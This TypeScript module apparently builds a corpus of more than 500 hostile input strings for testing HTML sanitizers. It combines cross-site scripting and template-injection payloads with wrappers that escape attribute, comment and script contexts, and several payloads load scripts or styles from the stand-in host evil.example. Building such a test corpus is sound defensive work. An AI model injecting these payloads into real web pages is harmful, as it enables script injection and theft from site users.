const run = 'globalThis.wasExecuted=1'

/** What would run something where a page takes it for markup, an address, a script or a style. */
const payloads = [
  `<script>${run}</script>`, `<ScRiPt src=//evil.example/x></sCrIpT>`, `<script/x>${run}</script>`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src="x" onerror="${run}">`, `<img/src="x"/onerror=${run}>`, `<img src='x'onerror='${run}'>`, `<image href=x onerror=${run}>`,
  `<svg onload=${run}>`, `<svg/onload=${run}//`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
  `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<base href="//evil.example/">`,
  `<a href="javascript:${run}">x</a>`, `<a href=" java\tscript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`,
  `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>`, `<input autofocus onfocus=${run}>`,
  `<body onload=${run}>`, `<style>@import 'javascript:${run}'</style>`, `<link rel=stylesheet href="//evil.example/x.css">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<math><mi xlink:href="data:x,${run}">x</mi></math>`,
  `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<p style="background:url(javascript:${run})">`, `<x-evil onclick=${run} tabindex=1>`, `<isindex action="javascript:${run}">`,
  `javascript:${run}`, `data:text/html,<script>${run}</script>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<?php ${run} ?>`, `<% ${run} %>`, `<![CDATA[<script>${run}</script>]]>`,
]

/** Ways to break out of the code around a text. */
const escapes: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `--><!-- ${text}`,
  (text) => `</title></textarea></style></script>${text}`,
  (text) => `</p></div></main></body></html>${text}`,
  (text) => `" onmouseover="${run}" x="${text}`,
  (text) => `' autofocus onfocus='${run}' x='${text}`,
  (text) => `"}</script>${text}`,
  (text) => `\\"+${run}+\\"${text}`,
  (text) => `]]>${text}`,
  (text) => text.replace(/[<>"'&]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => encodeURIComponent(text),
]

/** More than 500 texts, each different, that people with bad intentions type into fields. */
export const hostileStrings = [...new Set(escapes.flatMap((escape) => payloads.map(escape)))]
